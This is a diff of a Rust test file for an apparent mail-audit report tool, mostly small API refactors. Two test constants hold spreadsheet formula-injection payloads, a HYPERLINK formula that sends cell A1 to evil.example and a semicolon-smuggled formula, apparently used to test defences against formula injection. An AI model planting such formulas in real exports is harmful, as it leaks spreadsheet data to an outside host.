@@ -8,14 +8,14 @@ use sent_audit::finding::{
 };
 use sent_audit::mailbox::{Custodian, Locator, MailboxId, Organisation};
 use sent_audit::report::{Audience, Dialect, ReportSettings, write};
-use sent_audit::store::{Decision, Judged, RunRecord, Store, evidence_digest};
+use sent_audit::store::{Decision, Import, Judged, RunRecord, Store, evidence_digest};
 use tempfile::TempDir;
 
 const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1;\"click\")";
 const LANDMINE: &str = "x;=HYPERLINK(\"https://evil.example\")";
 
 /// `true` if there is a spreadsheet; otherwise says that the test is skipped, or fails if none may be skipped.
-fn has_spreadsheet() -> bool {
+pub(crate) fn has_spreadsheet() -> bool {
     let found = Command::new("soffice")
         .arg("--version")
         .output()
@@ -151,7 +151,7 @@ impl Report {
             evidence: evidence_digest(&findings[0]),
         };
         store
-            .add_decision("f-1", &decision, "2024-07-01T00:00:00Z".parse().unwrap())
+            .add_decisions(&[("f-1".to_owned(), decision)], &Import::default())
             .unwrap();
         let judged = Judged {
             locator: Locator::Uid {
